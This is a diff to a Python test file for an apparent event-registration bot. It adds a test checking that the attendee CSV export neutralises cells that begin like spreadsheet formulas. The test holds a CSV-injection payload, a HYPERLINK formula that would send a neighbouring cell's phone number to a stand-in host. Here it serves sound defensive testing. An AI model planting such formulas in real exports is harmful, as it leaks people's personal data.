@@ -13,7 +13,13 @@ import pytest
 from auxil.processes import desabot
 from auxil.sessions import a_session as shared_session
 from bot.domain.people import touch_person
-from bot.domain.registrations import attendees, cancel_registration, check_in, register
+from bot.domain.registrations import (
+    attendees,
+    attendees_csv,
+    cancel_registration,
+    check_in,
+    register,
+)
 from bot.domain.sessions import (
     CODE_ALPHABET,
     SessionError,
@@ -235,3 +241,23 @@ async def test_capacity_zero_on_edit_is_refused(db):
         await edit_session(db, session.code, capacity=0)
     assert caught.value.reason == "bad_capacity"
     assert (await get_session(db, session.code)).capacity == 5
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+async def test_an_exported_cell_never_opens_as_a_formula(db, start):
+    """A village typed as =HYPERLINK(...) would open as a live link carrying the next
+    villager's phone number: every cell that starts like a formula is kept text."""
+    from bot.domain.people import update_profile
+
+    session = await a_session(db, capacity=5)
+    [person] = await people(db, 1)
+    village = f'{start}HYPERLINK("http://x/?"&C3,"Klik")'
+    await update_profile(
+        db, person, full_name=f"{start}Budi", village=village, phone="+6281234567890"
+    )
+    await register(db, session.code, person)
+    [header, row] = list(csv.reader(io.StringIO(attendees_csv(await attendees(db, session.code)))))
+    assert header[:3] == ["name", "village", "phone"]
+    assert row[0] == f"'{start}Budi" and row[1] == f"'{village}"
+    assert row[2] == "'+6281234567890"  # the phone number stays text, not a sum
+    assert row[3].isalnum() and row[4] == "confirmed"
